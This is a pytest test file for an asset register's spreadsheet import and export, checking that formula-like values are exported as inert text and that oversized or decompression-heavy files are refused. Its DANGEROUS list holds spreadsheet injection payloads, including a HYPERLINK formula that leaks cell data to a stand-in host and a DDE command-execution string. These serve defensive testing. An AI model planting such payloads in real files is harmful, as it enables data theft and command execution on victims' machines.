"""The register's files are bounded and inert (issue 12, findings 6 and 7): exports write formula-like text as data,
imports stream and stop as soon as the row cap is passed."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook

from assets import register_io
from assets.domain import Asset, Location

DANGEROUS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


def asset(name: str, **attributes: Any) -> Asset:
    return Asset(tag="GZ-F-1", type="desktop", name=name, model="M70t", serial=name, location=Location(building="主樓"),
                 owner=name, department="財務科", status="deployed", attributes=attributes)


def csv_rows(chunks: list[bytes]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(chunks).decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", DANGEROUS)
def test_csv_export_writes_a_formula_like_name_as_text(name: str) -> None:
    (row,) = csv_rows(list(register_io.csv_chunks([asset(name)], ["attr.ram_gb"])))

    assert row["name"] == row["serial"] == row["owner"] == "'" + name
    assert row["tag"] == "GZ-F-1"  # ordinary text is left alone


@pytest.mark.parametrize("name", DANGEROUS)
def test_xlsx_export_writes_a_formula_like_name_as_text(name: str) -> None:
    sheet = load_workbook(io.BytesIO(register_io.xlsx_bytes([asset(name)], ["attr.ram_gb"])))["register"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))

    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    # XML reads a carriage return back as a line feed; what matters is the quote in front.
    assert cells["name"].value == ("'" + name).replace("\r", "\n") and cells["name"].data_type == "s"


def test_numbers_stay_numbers_in_the_xlsx_export() -> None:
    sheet = load_workbook(io.BytesIO(register_io.xlsx_bytes([asset("PC", ram_gb=-16)], ["attr.ram_gb"])))["register"]
    cells = dict(zip([c.value for c in sheet[1]], sheet[2], strict=True))

    assert (cells["attr.ram_gb"].value, cells["attr.ram_gb"].data_type) == (-16, "n")


@pytest.mark.parametrize("name", DANGEROUS[:4])
def test_an_exported_name_reads_back_as_it_was(name: str) -> None:
    exported = b"".join(register_io.csv_chunks([asset(name)], []))
    (row,) = register_io.read_rows(exported, file_name="register.csv")
    assert row["name"] == name

    (row,) = register_io.read_rows(register_io.xlsx_bytes([asset(name)], []), file_name="register.xlsx")
    assert row["name"] == name


def test_a_csv_just_over_the_cap_is_refused() -> None:
    rows = "".join(f"GZ-C-{i},desktop,主樓\n" for i in range(register_io.MAX_ROWS + 1))
    content = ("tag,type,building\n" + rows).encode()

    with pytest.raises(register_io.TooManyRows, match=f"more than {register_io.MAX_ROWS} rows"):
        register_io.read_rows(content, file_name="register.csv")
    assert len(register_io.read_rows(content[: content.rindex(b"GZ-C-")], file_name="register.csv")) == register_io.MAX_ROWS


def test_a_csv_is_refused_at_the_cap_before_the_rest_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(register_io, "MAX_ROWS", 10)
    # Past row 11 the file is broken: reading it would be a CSV error, so a TooManyRows proves reading stopped.
    content = ("tag,type,building\n" + "".join(f"GZ-C-{i},desktop,主樓\n" for i in range(11)) + 'x,"' + "y" * 200_000 + '"\n').encode()

    with pytest.raises(register_io.TooManyRows):
        register_io.read_rows(content, file_name="register.csv")


def xlsx(rows: int) -> bytes:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("register")
    ws.append(["tag", "type", "building"])
    for i in range(rows):
        ws.append([f"GZ-X-{i}", "desktop", "主樓"])
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def test_an_xlsx_just_over_the_cap_is_refused_after_reading_only_that_far(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(register_io, "MAX_ROWS", 100)
    pulled = []
    real_load = register_io.load_workbook

    def counting_load(*args: Any, **kwargs: Any) -> Any:
        assert kwargs.get("read_only") is True  # streamed, not loaded whole
        workbook = real_load(*args, **kwargs)
        sheet = workbook.worksheets[0]
        real_iter = sheet.iter_rows

        def iter_rows(**kw: Any) -> Any:
            for row in real_iter(**kw):
                pulled.append(row)
                yield row

        sheet.iter_rows = iter_rows
        return workbook

    monkeypatch.setattr(register_io, "load_workbook", counting_load)

    with pytest.raises(register_io.TooManyRows, match="more than 100 rows"):
        register_io.read_rows(xlsx(5_000), file_name="register.xlsx")
    assert len(pulled) == 102  # the header, 100 rows, and the one that passed the cap: not the other 4,899
    assert len(register_io.read_rows(xlsx(100), file_name="register.xlsx")) == 100


def test_blank_rows_are_bounded_too(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(register_io, "MAX_BLANK_ROWS", 5)
    with pytest.raises(register_io.TooManyRows, match="blank rows"):
        register_io.read_rows(b"tag,type,building\n" + b",,\n" * 6, file_name="register.csv")


def test_an_xlsx_that_unpacks_to_too_much_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(register_io, "MAX_XLSX_UNPACKED", 10_000)
    with pytest.raises(register_io.UnreadableFile, match="unpacks to more than"):
        register_io.read_rows(xlsx(1_000), file_name="register.xlsx")


def test_reading_stops_itself_at_its_budget() -> None:
    from opsdesk_shared.offload import BudgetExceeded

    content = ("tag,type,building\n" + "".join(f"GZ-C-{i},desktop,主樓\n" for i in range(2_000))).encode()
    with pytest.raises(BudgetExceeded):
        register_io.read_rows(content, file_name="register.csv", budget=0.0)
